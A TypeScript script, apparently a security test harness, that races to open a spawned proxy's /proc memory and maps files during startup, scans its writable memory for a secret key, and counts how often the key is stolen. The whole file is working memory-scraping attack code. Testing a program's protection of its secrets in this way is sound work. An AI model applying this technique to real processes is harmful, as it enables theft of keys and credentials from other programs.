// An attacker of the same user who is there from the start: opens /proc/PID/mem and maps of a proxy in a loop from its spawn on, keeps
// what could be opened, and looks for the key through it once the proxy serves.
// Usage: bun racer.ts TRIES KEY SERVER_INFO_FILE ENVIRONMENT_AS_JSON BINARY [ARG…]; prints in how many tries the key was stolen.

import { spawn } from "node:child_process";
import { closeSync, existsSync, openSync, readSync, rmSync } from "node:fs";

const [tries, key, info, environment, binary, ...args] = process.argv.slice(2) as [
  string,
  string,
  string,
  string,
  string,
];

type Handles = { mem: number; maps: number };

let stolen = 0;
for (let round = 0; round < Number(tries); round++) if (await race()) stolen++;
console.log(JSON.stringify({ stolen }));
process.exit(0);

async function race(): Promise<boolean> {
  rmSync(info, { force: true });
  const env = JSON.parse(environment) as NodeJS.ProcessEnv;
  const child = spawn(binary, ["--server-info", info, ...args], { env, stdio: ["pipe", "ignore", "ignore"] });
  child.stdin!.end(`${key}\n`);
  const handles: Handles[] = [];
  // Each opened pair belongs to the memory of its moment; later ones may belong to the second start's.
  const end = performance.now() + 2_000;
  while (!existsSync(info) && child.exitCode === null && performance.now() < end) {
    for (let attempt = 0; attempt < 50; attempt++) tryToOpen(child.pid!, handles);
    await new Promise((resolve) => setImmediate(resolve));
  }
  const found = handles.some(holdsKey);
  for (const { mem, maps } of handles) {
    closeSync(mem);
    closeSync(maps);
  }
  child.kill("SIGKILL");
  await new Promise((resolve) => child.once("exit", resolve));
  return found;
}

function tryToOpen(pid: number, handles: Handles[]): void {
  try {
    const mem = openSync(`/proc/${pid}/mem`, "r");
    const maps = openSync(`/proc/${pid}/maps`, "r");
    handles.push({ mem, maps });
    if (handles.length > 400) {
      const old = handles.shift()!;
      closeSync(old.mem);
      closeSync(old.maps);
    }
  } catch {
    // Closed, or not there yet.
  }
}

/** Whether the key is in the writable memory that these handles show. */
function holdsKey({ mem, maps }: Handles): boolean {
  const needle = Buffer.from(key, "latin1");
  const chunk = Buffer.alloc(1 << 20);
  const mappings = readAll(maps);
  // Opened before the child had executed anything: that is still our own memory, where the key is, too.
  if (mappings.includes(process.execPath)) return false;
  for (const line of mappings.split("\n")) {
    const match = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (match === null) continue;
    const start = Number.parseInt(match[1]!, 16);
    // What is reserved and not used is empty: the first 64 MiB of a mapping are where a heap begins.
    const stop = Math.min(Number.parseInt(match[2]!, 16), start + (64 << 20));
    for (let at = start; at < stop; at += chunk.length - needle.length) {
      const got = read(mem, chunk, at, Math.min(chunk.length, stop - at));
      if (got <= 0) break;
      if (chunk.subarray(0, got).includes(needle)) return true;
    }
  }
  return false;
}

function readAll(fd: number): string {
  const chunk = Buffer.alloc(1 << 16);
  let text = "";
  for (let got = read(fd, chunk, null, chunk.length); got > 0; got = read(fd, chunk, null, chunk.length)) {
    text += chunk.toString("latin1", 0, got);
  }
  return text;
}

function read(fd: number, into: Buffer, position: number | null, length: number): number {
  try {
    return readSync(fd, into, 0, length, position);
  } catch {
    return 0;
  }
}
